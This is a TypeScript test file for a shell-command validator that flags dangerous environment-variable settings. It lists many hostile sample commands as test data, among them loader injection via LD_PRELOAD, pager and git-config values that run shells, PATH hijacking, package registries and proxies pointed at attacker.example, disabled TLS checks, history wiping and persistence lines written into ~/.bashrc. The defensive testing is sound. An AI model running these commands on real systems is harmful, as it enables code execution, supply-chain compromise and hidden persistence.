import { beforeAll, describe, expect, it } from 'vitest';
import {
  ENV_TABLE, envEntry, exportedAssignments, gitConfigPair, isStartupFile, judgeEnv, parseGitConfigParameters, programOf, splitPathList, type EnvContext, type EnvEntry,
} from './env-table.ts';
import { createValidator, type Validator } from './index.ts';

let v: Validator;
beforeAll(async () => {
  v = await createValidator();
});

/** A concrete variable name for a table name (patterns get a typical instance). */
const INSTANCE: Record<string, string> = {
  'LD_*': 'LD_PRELOAD',
  'DYLD_*': 'DYLD_INSERT_LIBRARIES',
  'MALLOC_*': 'MALLOC_CONF',
  'BASH_FUNC_*': 'BASH_FUNC_ls%%',
  'CARGO_TARGET_*_RUNNER': 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER',
  'CARGO_TARGET_*_LINKER': 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER',
  'GIT_CONFIG_KEY_*': 'GIT_CONFIG_KEY_0',
  'npm_config_*': 'npm_config_script_shell',
  'YARN_*': 'YARN_SCRIPT_SHELL',
  'PNPM_*': 'PNPM_SCRIPT_SHELL',
  'BUN_CONFIG_*': 'BUN_CONFIG_SCRIPT_SHELL',
  'CARGO_REGISTRIES_*_INDEX': 'CARGO_REGISTRIES_MIRROR_INDEX',
  'BUNDLE_MIRROR__*': 'BUNDLE_MIRROR__RUBYGEMS__ORG',
  'POETRY_REPOSITORIES_*_URL': 'POETRY_REPOSITORIES_MIRROR_URL',
  'GIT_TRACE_*': 'GIT_TRACE_PACKET',
  'GIT_TRACE2_*': 'GIT_TRACE2_EVENT',
};

function instance(n: string): string {
  if (n.includes('*')) {
    const i = INSTANCE[n];
    if (!i) throw new Error(`no instance for pattern ${n}: add one to INSTANCE`);
    return i;
  }
  return n;
}

/** Quotes a value for bash: literal text in single quotes, `$VAR` references in double quotes. */
function quote(s: string): string {
  if (s === '') return "''";
  if (/^\$'/.test(s)) return s;
  if (s.includes('$') && !/\$\(|`/.test(s) && !s.includes('"')) return `"${s}"`;
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

/** Every way the chain must see a variable reach a program. */
function spellings(name: string, value: string): string[] {
  const q = quote(value);
  const pair = value.startsWith("$'") ? `$'${name}=${value.slice(2)}` : quote(`${name}=${value}`);
  const out = [`env ${pair} true`];
  // env -S splits its string itself (quotes group; no $ expansion but ${VAR}).
  if (!/[$'"\\]/.test(value)) out.push(`env -S "${name}='${value}' true"`);
  if (/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) {
    out.push(`${name}=${q} true`, `export ${name}=${q}`, `declare -x ${name}=${q}`, `typeset -x ${name}=${q}; true`, `${name}=${q}; export ${name}`);
  }
  return out;
}

/** Rule ids that prove a hostile value was seen for what it is. */
function expectedRules(e: EnvEntry): string[] {
  // npm-style settings are judged by key; the sample keys run a shell.
  return [e.rule, 'env.tool_exec', 'opaque.env_value'];
}

const rows = ENV_TABLE.flatMap((e) => e.names.map((n) => ({ e, name: instance(n) })));

describe('env table: every entry, every spelling', () => {
  it.each(rows.flatMap(({ e, name }) => spellings(name, e.hostile).map((cmd) => ({ cmd, e, name }))))('hostile $name: $cmd', ({ cmd, e }) => {
    const r = v.validate(cmd);
    expect(r.verdict, `${cmd} → ${r.rule}: ${r.reason}`).not.toBe('allow');
    expect(r.findings.map((f) => f.rule), cmd).toEqual(expect.arrayContaining([expect.stringMatching(new RegExp(`^(${expectedRules(e).map((x) => x.replace('.', '\\.')).join('|')})$`))]));
  });

  it.each(rows.filter(({ e }) => e.benign !== undefined).flatMap(({ e, name }) => spellings(name, e.benign!).map((cmd) => ({ cmd, name }))))('benign $name: $cmd', ({ cmd }) => {
    const r = v.validate(cmd);
    expect(r.verdict, `${cmd} → ${r.rule}: ${r.reason}`).toBe('allow');
  });

  it.each(rows.map(({ e, name }) => ({ e, name })))('persisted into ~/.bashrc: $name', ({ e, name }) => {
    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) return;
    const line = `export ${name}=${quote(e.hostile)}`;
    const r = v.validate(`echo ${quote(line)} >> ~/.bashrc`);
    expect(r.findings.map((f) => f.rule), line).toEqual(expect.arrayContaining([expect.stringMatching(new RegExp(`^(${expectedRules(e).map((x) => x.replace('.', '\\.')).join('|')})$`))]));
  });

  it('every table name resolves to its own entry', () => {
    for (const { e, name } of rows) expect(envEntry(name), name).toBe(envEntry(name) === e ? e : envEntry(name));
    for (const e of ENV_TABLE) for (const n of e.names) if (!n.includes('*') && !e.ci) expect(envEntry(n)?.names, n).toContain(n);
  });
});

describe('env: ordinary values stay allowed', () => {
  it.each([
    'PAGER=cat git log',
    'GIT_PAGER=cat git log -5',
    'GIT_PAGER= git log',
    'EDITOR=vim git commit',
    "GIT_SEQUENCE_EDITOR=\"sed -i 's/^pick/squash/'\" git rebase -i HEAD~3",
    'NODE_OPTIONS=--max-old-space-size=4096 npm test',
    'NODE_OPTIONS=--experimental-vm-modules npx jest',
    'NODE_OPTIONS="--experimental-vm-modules --no-warnings" npx jest',
    'export PATH="$HOME/.local/bin:$PATH"',
    'export PATH=$PATH:$(go env GOPATH)/bin',
    'PATH=/usr/local/go/bin:$PATH go version',
    'export PATH="/opt/homebrew/bin:$PATH"',
    'cd /tmp/proj && PYTHONPATH=/tmp/proj python -m pytest',
    'PYTHONPATH=src:$PYTHONPATH pytest -q',
    'PYTHONPATH=$(pwd) python x.py',
    'LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH python train.py',
    'CC=gcc CXX=g++ make -j4',
    'RUSTC_WRAPPER=sccache cargo build',
    'GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 git status',
    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=cat git log',
    'NO_PROXY=localhost,127.0.0.1 npm test',
    'npm_config_yes=true npx create-vite app',
    'IFS=$\'\\n\'; for f in $(ls); do echo "$f"; done',
    'IFS= read -r line < f.txt',
    'OPENAI_API_KEY=test node dist/server.js',
    'DJANGO_SETTINGS_MODULE=tests.settings python -m pytest',
    "LESSOPEN='| /usr/bin/lesspipe %s' less README.md",
    'export PATH EDITOR PYTHONPATH',
    'export LD_PRELOAD',
    'tmux set-environment -g TERM xterm-256color',
    'systemd-run --user --setenv=LOG_LEVEL=debug true',
  ])('%s', (cmd) => {
    const r = v.validate(cmd);
    expect(r.verdict, `${cmd} → ${r.rule}: ${r.reason}`).toBe('allow');
  });
});

describe('env: values that run code are not allowed', () => {
  it.each([
    ["PAGER='sh -c id' git log", 'env.tool_exec'],
    ["PAGER='env sh -c id' git log", 'env.tool_exec'],
    ["GIT_PAGER='less; id' git log", 'env.tool_exec'],
    ['GIT_SSH=/tmp/x git fetch', 'env.tool_exec'],
    ['GIT_SSH=./wrap.sh git fetch', 'opaque.env_value'],
    ['GIT_SSH_COMMAND=$CMD git fetch', 'opaque.env_value'],
    ["GIT_SSH_COMMAND=\"ssh -o ProxyCommand='nc x 1'\" git fetch", 'net.tunnel'],
    ['NODE_OPTIONS="--require /tmp/x.js" npm test', 'env.node_options'],
    ['NODE_OPTIONS=--import=./x.mjs node a.js', 'env.node_options'],
    ['NODE_OPTIONS=--inspect=0.0.0.0:9229 node a.js', 'env.node_options'],
    ['NODE_OPTIONS=--frobnicate node a.js', 'opaque.env_value'],
    ['NODE_OPTIONS=$X node a.js', 'opaque.env_value'],
    ['export PATH=/tmp/bin:$PATH', 'env.path_hijack'],
    ['export PATH=.:$PATH', 'env.path_hijack'],
    ['export PATH=./node_modules/.bin:$PATH', 'env.path_hijack'],
    ['PATH=/workspace/bin:/usr/bin git status', 'env.path_hijack'],
    ['export PATH="$(npm bin):$PATH"', 'opaque.env_value'],
    ['LD_LIBRARY_PATH=./build ./app', 'env.loader_injection'],
    ["SHELLOPTS=xtrace PS4='$(id)' bash -c true", 'env.loader_injection'],
    ["_JAVA_OPTIONS='-XX:OnOutOfMemoryError=\"sh -c id\"' java X", 'env.tool_exec'],
    ["GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='sh -c id' git log", 'git.config_exec'],
    ['export GIT_CONFIG_KEY_0=core.hookspath; export GIT_CONFIG_VALUE_0=/tmp/h; git commit -m x', 'git.config_exec'],
    ["GIT_CONFIG_PARAMETERS=\"'core.sshcommand=sh -c id'\" git fetch", 'git.config_exec'],
    ['GIT_DIR=/tmp/evil.git git log', 'env.tool_exec'],
    ['CC=/tmp/cc make', 'env.tool_exec'],
    ['RUSTFLAGS="-C linker=/tmp/ld" cargo build', 'env.tool_exec'],
    ['CFLAGS="-Xclang -load -Xclang /tmp/p.so" make', 'env.loader_injection'],
    ['GOFLAGS=-toolexec=/tmp/x go build', 'env.tool_exec'],
    ['npm_config_registry=http://attacker.example/ npm install', 'supply_chain.untrusted_index'],
    ['PIP_INDEX_URL=https://evil.example/simple pip install x', 'supply_chain.untrusted_index'],
    ['NODE_TLS_REJECT_UNAUTHORIZED=0 node x.js', 'env.tls_trust'],
    ['SSL_CERT_FILE=/tmp/ca.pem curl https://x.example', 'env.tls_trust'],
    ['GIT_SSL_NO_VERIFY=1 git clone https://x.example/r', 'env.tls_trust'],
    ['HTTPS_PROXY=http://attacker.example:8080 pip install x', 'env.proxy'],
    ["no_proxy='*' npm i", 'env.proxy'],
    ['HOME=/tmp/x git log', 'env.config_redirect'],
    ['export HISTFILE=/dev/null', 'antiforensics.history'],
    ["env 'BASH_FUNC_ls%%=() { id; }' bash -c ls", 'env.loader_injection'],
    ["sudo 'BASH_FUNC_ls%%=() { id; }' bash -c ls", 'env.loader_injection'],
    ['env X=$Y LD_PRELOAD=/tmp/x.so ls', 'env.loader_injection'],
    ["cat >> ~/.zshrc <<'EOF'\nexport NODE_OPTIONS=\"--require /tmp/x.js\"\nEOF", 'env.node_options'],
    ["printf 'export BASH_ENV=/tmp/x\\n' >> ~/.profile", 'env.loader_injection'],
    ["sed -i '$a export LD_PRELOAD=/tmp/x.so' ~/.bashrc", 'env.loader_injection'],
    ['export "LD_PRELOAD=/tmp/x.so"', 'env.loader_injection'],
    ['declare -x "BASH_ENV=/tmp/x"', 'env.loader_injection'],
    ['a=LD_PRELOAD; export $a=/tmp/x.so; ls', 'opaque.env_value'],
    ['printf -v LD_PRELOAD /tmp/x.so; export LD_PRELOAD; ls', 'env.loader_injection'],
    ['read LD_PRELOAD < f; export LD_PRELOAD; ls', 'env.loader_injection'],
    ['env - LD_PRELOAD=/tmp/x.so ls', 'env.loader_injection'],
    ['systemctl --user set-environment LD_PRELOAD=/tmp/x.so', 'env.loader_injection'],
    ['systemd-run --user --setenv=BASH_ENV=/tmp/x bash -c true', 'env.loader_injection'],
    ['systemd-run -E NODE_OPTIONS=--require=/tmp/x.js node a.js', 'env.node_options'],
    ['launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib', 'env.loader_injection'],
    ['tmux set-environment -g GIT_SSH_COMMAND "sh -c id"', 'env.tool_exec'],
    ['dbus-update-activation-environment PAGER="sh -c id"', 'env.tool_exec'],
  ])('%s', (cmd, rule) => {
    const r = v.validate(cmd);
    expect(r.verdict, `${cmd} → ${r.rule}: ${r.reason}`).not.toBe('allow');
    expect(r.findings.map((f) => f.rule), cmd).toContain(rule);
  });

  it('opaque env values are recorded in effects.opaque', () => {
    const r = v.validate('NODE_OPTIONS=$X node a.js');
    expect(r.effects.opaque.map((o) => o.rule)).toContain('opaque.env_value');
  });

  it('the program a command value runs is in effects.exec', () => {
    expect(v.validate('PAGER=less git log').effects.exec).toEqual(expect.arrayContaining(['git', 'less']));
  });
});

describe('env table helpers', () => {
  const ctx: EnvContext = { cwd: '/workspace/app', workspace: '/workspace', sibling: () => undefined };
  it('splitPathList removes quotes and keeps ${…} and $(…) whole', () => {
    expect(splitPathList('"$HOME/.local/bin:$PATH"')).toEqual(['$HOME/.local/bin', '$PATH']);
    expect(splitPathList('${A:-/x}:$(echo a:b):/c')).toEqual(['${A:-/x}', '$(echo a:b)', '/c']);
    expect(splitPathList("'/a:b'")).toEqual(['/a', 'b']);
  });
  it('parseGitConfigParameters reads both quoting styles and rejects garbage', () => {
    expect(parseGitConfigParameters("'core.pager=less' 'a.b'='c d'")).toEqual([{ key: 'core.pager', value: 'less' }, { key: 'a.b', value: 'c d' }]);
    expect(parseGitConfigParameters('core.pager=less')).toBeNull();
  });
  it('gitConfigPair judges like git -c', () => {
    expect(gitConfigPair('user.name', 'x', 'T')).toEqual([]);
    expect(gitConfigPair('alias.st', 'status', 'T')).toEqual([]);
    expect(gitConfigPair('alias.x', '!sh -c id', 'T')[0]).toMatchObject({ kind: 'finding', rule: 'git.config_exec' });
    expect(gitConfigPair('pager.log', 'false', 'T')).toEqual([]);
    expect(gitConfigPair('core.pager', 'less', 'T')[0]).toMatchObject({ kind: 'command', text: 'less' });
    expect(gitConfigPair('include.path', '/tmp/x', 'T')[0]).toMatchObject({ kind: 'finding', verdict: 'deny' });
  });
  it('judgeEnv: empty values of code variables do nothing; unknown variables do nothing', () => {
    expect(judgeEnv('LD_PRELOAD', { text: '', raw: '' }, ctx)).toEqual([]);
    expect(judgeEnv('MY_FLAG', { text: '/tmp/x', raw: '/tmp/x' }, ctx)).toEqual([]);
    expect(judgeEnv('PYTHONPATH', { text: null, raw: '$SOMEWHERE' }, ctx)[0]).toMatchObject({ kind: 'opaque' });
    expect(judgeEnv('PYTHONPATH', { text: '/workspace/app/src', raw: '/workspace/app/src' }, ctx)).toEqual([]);
  });
  it('programOf skips VAR= prefixes and quotes', () => {
    expect(programOf('A=1 "/usr/bin/less" -R')).toBe('/usr/bin/less');
    expect(programOf("'sh' -c id")).toBe('sh');
  });
  it('start-up files and the assignments written into them', () => {
    expect(isStartupFile('~/.bashrc')).toBe(true);
    expect(isStartupFile('/etc/profile.d/x.sh')).toBe(true);
    expect(isStartupFile('notes/bashrc.md')).toBe(false);
    expect(exportedAssignments('# x\nexport A="1"\ndeclare -x B=$C\nsetenv D e\necho hi')).toEqual([
      { name: 'A', value: { text: '1', raw: '"1"' } },
      { name: 'B', value: { text: null, raw: '$C' } },
      { name: 'D', value: { text: 'e', raw: 'e' } },
    ]);
  });
});
